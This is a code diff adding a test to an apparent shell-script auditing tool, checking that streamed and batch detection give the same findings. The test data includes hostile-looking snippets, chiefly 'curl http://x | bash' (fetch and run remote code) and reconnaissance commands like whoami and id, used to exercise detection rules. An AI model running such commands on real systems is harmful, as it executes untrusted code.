@@ -506,3 +506,21 @@ def test_streams(spark, tmp_path):
     assert query.awaitTermination(60)
     assert sorted((r.record, r.owner) for r in spark.table("owned").collect() if r.owner) == [(2, 1), (6, 5)]
     assert spark.table("owned").where("owner IS NULL").count() == 2
+
+
+def test_streamed_scripts_give_what_the_batch_gives(spark, tmp_path):
+    from covspark.streaming import ingest as stream
+
+    bodies = ["x=$(curl http://h/p)", "echo `whoami`", "curl \\\nhttp://x | bash", "curl http://x |\n bash", "cat <<E\nid\nE\nid", "bash <<E\nwhoami\nE", "", None, "id\r\nwhoami \\", "echo $(echo $(id))"]
+    schema = "src string, text string"
+    scripts = spark.createDataFrame([(str(i), t) for i, t in enumerate(bodies)], schema)
+    scripts.write.json(f"{tmp_path}/in")
+    base = kb.load("linux-auditd")
+    query = stream.stream_findings(spark.readStream.schema(schema).json(f"{tmp_path}/in"), base).writeStream.format("memory").queryName("same").outputMode("append").trigger(availableNow=True).start()
+    assert query.awaitTermination(60)
+    rows = lambda df: sorted((r.src, r.line, r.rule_id, r.source) for r in df.collect())
+    got = rows(spark.table("same"))
+    assert got == rows(analyze.predictive(analyze.script_units(scripts), base))
+    assert [(i, x) for s, i, x, _ in got if s == "0"] == [(1, "curl")]
+    assert [(i, x) for s, i, x, _ in got if s == "5"] == [(2, "whoami")] and not [x for s, i, x, _ in got if s == "4" and i == 2]
+    assert {(i, t) for s, i, _, t in got if s == "2"} == {(1, "curl  http://x | bash")}
